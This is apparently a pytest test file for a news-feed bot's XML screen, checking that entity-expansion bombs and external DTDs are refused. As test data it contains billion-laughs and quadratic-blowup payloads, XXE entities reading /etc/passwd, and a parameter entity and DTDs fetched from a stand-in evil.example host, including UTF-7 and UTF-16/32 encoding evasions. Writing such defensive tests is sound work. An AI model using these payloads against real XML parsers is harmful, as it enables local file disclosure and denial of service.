"""The DOCTYPE screen: entity bombs and external DTDs are refused in every disguise; harmless
DOCTYPEs are cut out and the feed is read."""

from __future__ import annotations

import time

import pytest

from bot.core.errors import ParseError
from bot.ingest.parse import FeedparserParser
from bot.ingest.prolog import ENTITIES_REFUSED, screen

URL = "https://news.example/feed.xml"
ITEMS = "<item><title>Troops {ref}</title><link>https://news.example/a</link></item>"


UTF8_DECL = '<?xml version="1.0" encoding="utf-8"?>\n'


def feed(doctype: str, ref: str = "", decl: str = UTF8_DECL) -> str:
    return (
        f'{decl}{doctype}\n<rss version="2.0"><channel><title>T</title>'
        f"{ITEMS.format(ref=ref)}</channel></rss>\n"
    )


def parse(body: bytes, headers: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
    return FeedparserParser().parse(body, url=URL, headers=headers or {})


def refused(body: bytes, headers: dict[str, str] | None = None) -> str:
    started = time.monotonic()
    with pytest.raises(ParseError) as caught:
        parse(body, headers)
    assert time.monotonic() - started < 1.0  # refused up front, nothing expanded
    return str(caught.value)


BILLION_LAUGHS = (
    '<!DOCTYPE rss [\n<!ENTITY a "lol">\n'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n' for i in range(9))
    + "]>"
)
# The quadratic blowup: one large entity, referenced many times — the loose parser's favourite.
QUADRATIC = f'<!DOCTYPE rss [<!ENTITY big "{"x" * 20_000}">]>'


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(feed(BILLION_LAUGHS, "&j;").encode(), id="billion-laughs"),
        pytest.param(feed(QUADRATIC, "&big;" * 5_000).encode(), id="quadratic-blowup"),
        pytest.param(
            feed('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;").encode(),
            id="xxe-file",
        ),
        pytest.param(
            feed('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>').encode(),
            id="parameter-entity",
        ),
        pytest.param(feed('<!doctype rss [<!entity e "x">]>', "&e;").encode(), id="lowercase"),
        pytest.param(
            feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-16"), id="utf-16"
        ),
        pytest.param(
            feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-32"), id="utf-32"
        ),
        pytest.param(
            # UTF-7 spells "<" as "+ADw-": invisible to a byte scan, decoded by feedparser.
            feed(
                '+ADw-!DOCTYPE rss [+ADw-!ENTITY e "x">]>',
                "&e;",
                decl='<?xml version="1.0" encoding="utf-7"?>\n',
            ).encode(),
            id="utf-7",
        ),
        pytest.param(
            feed('<!-- <a> --><!DOCTYPE rss [<!ENTITY e "x">]>', "&e;").encode(),
            id="behind-comment-with-element",
        ),
        pytest.param(
            ('<!DOCTYPE rss [<!ENTITY e "' + "y" * 100 + '">]>\n<rss>&e;</rss>').encode(),
            id="no-declaration",
        ),
    ],
)
def test_entity_declarations_are_refused(body: bytes) -> None:
    assert refused(body) == ENTITIES_REFUSED


def test_charset_from_http_header_is_screened_too() -> None:
    body = feed('+ADw-!DOCTYPE rss [+ADw-!ENTITY e "x">]>', "&e;", decl="").encode()
    assert refused(body, {"content-type": "application/xml; charset=utf-7"}) == ENTITIES_REFUSED


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">',
        '<!DOCTYPE rss PUBLIC "-//Evil//DTD RSS//EN" "http://evil.example/rss.dtd">',
        "<!DOCTYPE rss SYSTEM 'file:///etc/passwd'>",
    ],
)
def test_external_dtds_are_refused(doctype: str) -> None:
    message = refused(feed(doctype).encode())
    assert message.startswith("refused: document references an external DTD (")
    assert "possible external-entity attack" in message


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://www.rssboard.org/rss-0.91.dtd">',
        "<!DOCTYPE rss [\n<!ELEMENT rss ANY>\n<!-- ]> a comment -->\n]>",
    ],
)
def test_harmless_doctypes_are_cut_out(doctype: str) -> None:
    parsed = parse(feed(doctype).encode())
    assert [e.title for e in parsed.entries] == ["Troops"]
    assert not parsed.bozo


def test_cut_out_doctype_keeps_line_numbers() -> None:
    doctype = '<!DOCTYPE rss PUBLIC\n "-//Netscape Communications//DTD RSS 0.91//EN"\n "x.dtd">'
    body = feed(doctype).replace("</channel></rss>\n", "\n<item><title>cut").encode()
    parsed = parse(body)  # the entry before the cut survives: kept, flagged bozo
    assert [e.title for e in parsed.entries] == ["Troops"]
    assert parsed.bozo_reason is not None
    assert parsed.bozo_reason.startswith("truncated or malformed XML at line 6: ")


def test_entity_text_in_an_article_is_not_a_declaration() -> None:
    item = (
        "<item><title>XXE explained</title><link>https://news.example/x</link>"
        '<description><![CDATA[Never accept <!ENTITY x SYSTEM "file:///">.]]></description></item>'
    )
    body = feed("").replace(ITEMS.format(ref=""), item).encode()
    assert [e.title for e in parse(body).entries] == ["XXE explained"]


def test_unterminated_doctype() -> None:
    assert refused(b'<?xml version="1.0"?>\n<!DOCTYPE rss [ <!ELEMENT rss ANY>').startswith(
        "truncated or malformed XML: unterminated <!DOCTYPE>"
    )


def test_screen_reports_kind_and_root() -> None:
    assert screen(b"<?xml version='1.0'?><!-- c --><rdf:RDF/>").root == "rdf:RDF"
    assert screen(b"\n\n<html><body/></html>").kind == "html"
    assert screen(b'  ["a"]').kind == "json"
    assert screen(b"<!-- only -->").kind == "empty"


@pytest.mark.parametrize("blank", ["\n", "\r\n", " \n\t"])
def test_blank_lines_before_the_root_cost_nothing(blank: str) -> None:
    # feedparser's own prolog regexes are quadratic in blank lines: 20 000 of them took 4.5 s.
    body = feed("<!-- " + blank * 100_000 + " -->" + blank * 200_000).encode()
    started = time.monotonic()
    parsed = parse(body)
    assert time.monotonic() - started < 2.0
    assert [e.title for e in parsed.entries] == ["Troops"]


def test_line_numbers_count_the_squeezed_blank_lines() -> None:
    body = feed("\n" * 5000).replace("</channel></rss>\n", "\n<item><title>cut").encode()
    parsed = parse(body)
    assert parsed.bozo_reason is not None
    assert parsed.bozo_reason.startswith("truncated or malformed XML at line 5004: ")
